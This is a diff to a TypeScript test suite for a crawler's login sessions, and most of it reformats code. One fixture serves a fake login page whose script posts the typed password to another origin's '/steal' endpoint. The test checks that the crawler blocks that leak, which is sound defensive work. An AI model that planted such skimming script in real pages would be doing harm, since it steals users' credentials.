@@ -43,10 +43,13 @@ async function scriptLoginSite(elsewhere: () => string): Promise<Site> {
       if (path === '/login') return html(res, '<div id="app">loading…</div><script src="/login.js"></script>');
       if (path === '/login-elsewhere') {
         // A login page whose script sends what is typed to another origin.
-        return html(res, `<form id="f"><input id="user"><input id="password" type="password"><button id="go">Log in</button></form><script>
+        return html(
+          res,
+          `<form id="f"><input id="user"><input id="password" type="password"><button id="go">Log in</button></form><script>
 document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault();
   fetch(${JSON.stringify(elsewhere())} + '/steal', { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value }).catch(() => {}); });
-</script>`);
+</script>`,
+        );
       }
       if (path === '/login.js') {
         res.writeHead(200, { 'content-type': 'text/javascript' });
@@ -73,7 +76,11 @@ document.getElementById('f').addEventListener('submit', (e) => { e.preventDefaul
       if (path === '/session' && req.method === 'POST') {
         const body = JSON.parse(await requestBody(req)) as { user?: string; password?: string };
         const sid = cookies.get('sid');
-        const ok = sid !== undefined && csrf.get(sid) === req.headers['x-csrf'] && body.user === USER && body.password === PASSWORD;
+        const ok =
+          sid !== undefined &&
+          csrf.get(sid) === req.headers['x-csrf'] &&
+          body.user === USER &&
+          body.password === PASSWORD;
         if (!ok) {
           site.failedLogins++;
           res.writeHead(403, { 'content-type': 'application/json' });
@@ -92,12 +99,21 @@ document.getElementById('f').addEventListener('submit', (e) => { e.preventDefaul
         return res.end();
       }
       if (path === '/') {
-        return html(res, '<a class="logout" href="/logout">log out</a>' + Array.from({ length: MEMBERS }, (_, i) => `<a class="member" href="/members/${i + 1}">${i + 1}</a>`).join(''));
+        return html(
+          res,
+          '<a class="logout" href="/logout">log out</a>' +
+            Array.from({ length: MEMBERS }, (_, i) => `<a class="member" href="/members/${i + 1}">${i + 1}</a>`).join(
+              '',
+            ),
+        );
       }
       const m = /^\/members\/(\d+)$/.exec(path);
       if (!m) return html(res, 'no such page');
       // The member's name is written by the page's script: only a rendered page has it.
-      return html(res, `<a class="logout" href="/logout">log out</a><h1 class="name"></h1><script>document.querySelector('h1').textContent = 'Member ${m[1]}'</script>`);
+      return html(
+        res,
+        `<a class="logout" href="/logout">log out</a><h1 class="name"></h1><script>document.querySelector('h1').textContent = 'Member ${m[1]}'</script>`,
+      );
     })();
   });
   await new Promise<void>((r) => site.server.listen(0, '127.0.0.1', r));
@@ -154,7 +170,14 @@ rules:
 `);
     const logs: string[] = [];
     const secretEnv = { CRAWL_STUDIO_SITE_USER: USER, CRAWL_STUDIO_SITE_PASSWORD: PASSWORD };
-    const s = session(task, redis.url, { workers: 1, concurrency: 2, secretEnv, lockDurationMs: 30_000, stalledIntervalMs: 5_000, onWorkerLog: (_pid, line) => logs.push(line) });
+    const s = session(task, redis.url, {
+      workers: 1,
+      concurrency: 2,
+      secretEnv,
+      lockDurationMs: 30_000,
+      stalledIntervalMs: 5_000,
+      onWorkerLog: (_pid, line) => logs.push(line),
+    });
     const result = await s.run();
     const dump = await redisDump(redis.url);
     await s.close();
@@ -164,7 +187,11 @@ rules:
     const stats = result.status.stats!;
 
     assert.equal(stats.failed, 0, `no page failed: ${JSON.stringify(stats.failures)}\n${log}`);
-    assert.deepEqual(names, Array.from({ length: MEMBERS }, (_, i) => `Member ${i + 1}`), log);
+    assert.deepEqual(
+      names,
+      Array.from({ length: MEMBERS }, (_, i) => `Member ${i + 1}`),
+      log,
+    );
     assert.equal(site.logins, 1, `one login for the one session\n${log}`);
     assert.equal(site.failedLogins, 0);
     assert.match(log, /session 0 logged in at/);
@@ -183,12 +210,23 @@ login:
 rules: [{ name: home, follow: [{ selector: a.member }] }]
 `);
     const logs: string[] = [];
-    const s = session(task, redis.url, { workers: 1, concurrency: 1, secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: 'wrong-one' }, lockDurationMs: 30_000, stalledIntervalMs: 5_000, onWorkerLog: (_pid, line) => logs.push(line) });
+    const s = session(task, redis.url, {
+      workers: 1,
+      concurrency: 1,
+      secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: 'wrong-one' },
+      lockDurationMs: 30_000,
+      stalledIntervalMs: 5_000,
+      onWorkerLog: (_pid, line) => logs.push(line),
+    });
     const result = await s.run();
     await s.close();
     const log = logs.join('\n');
     assert.equal(result.status.stats!.failures.login, 1, `${JSON.stringify(result.status.stats)}\n${log}`);
-    assert.match(log, /login to http:\/\/127\.0\.0\.1:\d+\/login failed: http:\/\/127\.0\.0\.1:\d+\/login has no \.logout/, log);
+    assert.match(
+      log,
+      /login to http:\/\/127\.0\.0\.1:\d+\/login failed: http:\/\/127\.0\.0\.1:\d+\/login has no \.logout/,
+      log,
+    );
   });
 
   it("refuses the login page's requests that carry a body to another origin: the password never leaves for it", async () => {
@@ -206,7 +244,14 @@ login:
 rules: [{ name: home, follow: [{ selector: a.member }] }]
 `);
     const logs: string[] = [];
-    const s = session(task, redis.url, { workers: 1, concurrency: 1, secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: PASSWORD }, lockDurationMs: 30_000, stalledIntervalMs: 5_000, onWorkerLog: (_pid, line) => logs.push(line) });
+    const s = session(task, redis.url, {
+      workers: 1,
+      concurrency: 1,
+      secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: PASSWORD },
+      lockDurationMs: 30_000,
+      stalledIntervalMs: 5_000,
+      onWorkerLog: (_pid, line) => logs.push(line),
+    });
     const result = await s.run();
     await s.close();
     const log = logs.join('\n');
